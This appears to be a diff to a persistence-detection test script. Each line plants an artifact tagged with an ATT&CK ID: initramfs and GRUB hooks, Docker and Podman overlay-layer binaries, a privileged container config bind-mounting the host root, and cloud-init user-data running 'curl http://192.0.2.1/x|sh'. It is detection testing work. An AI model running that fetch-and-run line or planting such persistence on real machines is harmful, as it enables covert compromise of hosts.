@@ -192,6 +192,7 @@ plant T1098.004 /var/lib/git/.ssh/authorized_keys "mkdir -p var/lib/git/.ssh; ec
 
 # What the boot loader, the kernel and packagers load.
 plant T1542 /etc/initramfs-tools/scripts/init-top/a "mkdir -p etc/initramfs-tools/scripts/init-top; printf '#!/bin/sh\nid\n' >etc/initramfs-tools/scripts/init-top/a"
+plant T1542 /boot/initrd.img-6.1 "mkdir -p boot $tmp/i/bin; cp bin/dash $tmp/i/bin/sh; printf '#!/bin/sh\nid\n' >$tmp/i/bin/x; (cd $tmp/i; find . | cpio --quiet -o -H newc | zstd -q) >boot/initrd.img-6.1"
 plant T1542.003 /boot/grub/grub.cfg "mkdir -p boot/grub; echo 'linux /vmlinuz root=/dev/vda1 init=/opt/x' >boot/grub/grub.cfg"
 plant T1542.003 /etc/grub.d/09_a "mkdir -p etc/grub.d; printf '#!/bin/sh\nid\n' >etc/grub.d/09_a"
 plant T1547.006 /etc/dkms/a.conf "mkdir -p etc/dkms; echo 'POST_BUILD=/x' >etc/dkms/a.conf"
@@ -215,6 +216,10 @@ plant T1543.005 /etc/docker/daemon.json "mkdir -p etc/docker; echo '{\"hosts\":[
 plant T1543.005 /etc/containers/oci/hooks.d/a.json "mkdir -p etc/containers/oci/hooks.d; echo '{\"hook\":{\"path\":\"/x\"}}' >etc/containers/oci/hooks.d/a.json"
 plant T1543.005 /etc/containers/systemd/a.container "mkdir -p etc/containers/systemd; printf '[Container]\nImage=x\n' >etc/containers/systemd/a.container"
 plant T1610 /var/lib/docker/containers/aa/hostconfig.json "mkdir -p var/lib/docker/containers/aa; echo '{\"Binds\":[\"/:/host\"],\"Privileged\":true}' >var/lib/docker/containers/aa/hostconfig.json"
+plant T1105 /var/lib/docker/overlay2/bb/diff/opt/x \
+	"cd var/lib; mkdir -p docker/containers/aa docker/image/overlay2/layerdb/mounts/aa docker/overlay2/bb/diff/opt; echo '{\"Name\":\"/web\",\"Config\":{\"Image\":\"nginx\"}}' >docker/containers/aa/config.v2.json; printf bb >docker/image/overlay2/layerdb/mounts/aa/mount-id; cp ../../bin/true docker/overlay2/bb/diff/opt/x"
+plant T1105 /var/lib/containers/storage/overlay/bb/diff/x \
+	"cd var/lib; mkdir -p containers/storage/overlay-containers containers/storage/overlay/bb/diff; echo '[{\"id\":\"aa\",\"names\":[\"web\"],\"image\":\"nginx\",\"layer\":\"bb\"}]' >containers/storage/overlay-containers/containers.json; printf '#!/bin/sh\nid\n' >containers/storage/overlay/bb/diff/x; chmod 755 containers/storage/overlay/bb/diff/x"
 plant T1543 /etc/cni/net.d/a.conf "mkdir -p etc/cni/net.d; echo '{\"type\":\"/tmp/x\"}' >etc/cni/net.d/a.conf"
 plant T1037 /var/lib/cloud/scripts/per-boot/a.sh "mkdir -p var/lib/cloud/scripts/per-boot; printf '#!/bin/sh\nid\n' >var/lib/cloud/scripts/per-boot/a.sh"
 plant T1037 /var/lib/cloud/instances/i/user-data.txt "mkdir -p var/lib/cloud/instances/i; printf '#!/bin/sh\ncurl http://192.0.2.1/x|sh\n' >var/lib/cloud/instances/i/user-data.txt"
